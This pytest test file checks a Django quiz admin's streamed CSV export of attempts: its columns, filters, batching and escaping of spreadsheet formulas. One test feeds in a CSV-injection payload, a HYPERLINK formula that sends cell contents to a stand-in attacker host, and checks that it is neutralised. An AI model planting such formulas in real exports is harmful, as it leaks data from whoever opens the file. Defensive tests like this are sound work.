"""CSV export of attempts: the filtered list or the selected rows, streamed, formula-safe."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.http import StreamingHttpResponse

from quiz import safe_csv
from quiz.results import exports
from tests.factories import (
    add_question,
    empty_quiz,
    submitted_attempt,
    trainee_named,
)

CHANGELIST = "/admin/quiz/attempt/"


def attempt_of(user, quiz, first: str, second: str, day: int = 1):
    single, matching = quiz.questions.order_by("position")
    return submitted_attempt(
        user,
        quiz,
        points={single: first, matching: second},
        submitted_at=datetime(2025, 3, day, 12, tzinfo=UTC),
        seconds=300,
    )


def rows_of(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="attempts-')
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_export_has_the_attempt_columns_and_one_points_column_per_question(quiz, superuser_client):
    ana = trainee_named("ana", first_name="Ana", last_name="Garcia")
    attempt_of(ana, quiz, "1", "0.5", day=2)
    header, row = rows_of(superuser_client.get(f"{CHANGELIST}export/"))
    assert header == [
        "trainee",
        "name",
        "email",
        "quiz",
        "started",
        "submitted",
        "percent",
        "passed",
        "#1 Question 1?",
        "#2 Question 2?",
    ]
    assert row == [
        "ana",
        "Ana Garcia",
        "ana@example.org",
        "Quiz reviewed",
        "2025-03-02T11:55:00+00:00",
        "2025-03-02T12:00:00+00:00",
        "75",
        "yes",
        "1",
        "0.5",
    ]


def test_export_button_exports_what_the_filters_and_search_show(quiz, superuser_client):
    attempt_of(trainee_named("ana"), quiz, "1", "1")
    attempt_of(trainee_named("ben"), quiz, "0", "0")
    attempt_of(trainee_named("cleo"), quiz, "1", "0.5")
    html = superuser_client.get(CHANGELIST, {"passed__exact": "1"}).content.decode()
    assert f'href="{CHANGELIST}export/?passed__exact=1"' in html

    def trainees(query):
        return [row[0] for row in rows_of(superuser_client.get(f"{CHANGELIST}export/", query))[1:]]

    assert sorted(trainees({})) == ["ana", "ben", "cleo"]
    assert sorted(trainees({"passed__exact": "1"})) == ["ana", "cleo"]
    assert trainees({"q": "ben"}) == ["ben"]


def test_export_with_bad_filters_says_so_on_the_list(quiz, superuser_client):
    response = superuser_client.get(f"{CHANGELIST}export/", {"percent__nonsense": "1"})
    assert response.status_code == 302 and response.url == CHANGELIST
    page = superuser_client.get(response.url).content.decode()
    assert "These filters are not valid; nothing was exported." in page


def test_export_action_exports_the_selected_attempts_only(quiz, superuser_client):
    ana = attempt_of(trainee_named("ana"), quiz, "1", "1")
    attempt_of(trainee_named("ben"), quiz, "0", "0")
    response = superuser_client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [ana.pk]}
    )
    assert [row[0] for row in rows_of(response)[1:]] == ["ana"]


def test_export_reads_attempts_in_batches_and_keeps_every_row(quiz, superuser_client, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    for n in range(5):
        attempt_of(trainee_named(f"t{n}"), quiz, "1", str(n % 2))
    rows = rows_of(superuser_client.get(f"{CHANGELIST}export/"))[1:]
    assert sorted((row[0], row[-1]) for row in rows) == [
        ("t0", "0"),
        ("t1", "1"),
        ("t2", "0"),
        ("t3", "1"),
        ("t4", "0"),
    ]


def test_export_of_several_quizzes_names_each_question_s_quiz(quiz, superuser_client):
    attempt_of(trainee_named("ana"), quiz, "1", "1")
    other = empty_quiz("other")
    question, _choices = add_question(other, 1, "single", ["A"], {"A"})
    submitted_attempt(trainee_named("ben"), other, points={question: 1})
    header, *rows = rows_of(superuser_client.get(f"{CHANGELIST}export/"))
    # Grouped by quiz, in the quizzes' order (position, then title).
    assert header[8:] == [
        "other #1 Question 1?",
        "reviewed #1 Question 1?",
        "reviewed #2 Question 2?",
    ]
    by_trainee = {row[0]: row[8:] for row in rows}
    assert by_trainee == {"ana": ["", "1", "1"], "ben": ["1", "", ""]}


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(quiz, superuser_client):
    evil = trainee_named(
        "@evil",
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        last_name="",
        email="-2+3@example.org",
    )
    attempt_of(evil, quiz, "1", "1")
    _header, row = rows_of(superuser_client.get(f"{CHANGELIST}export/"))
    assert row[:3] == [
        "'@evil",
        """'=HYPERLINK("http://evil.example/?"&A1,"Click")""",
        "'-2+3@example.org",
    ]
    assert row[6] == "100"  # numbers are written as numbers, never prefixed


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert safe_csv.neutralise(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("text", ["Ana", "a=b", "ana@example.org", " =1", ""])
def test_text_that_does_not_start_a_formula_is_kept(text):
    assert safe_csv.neutralise(text) == text
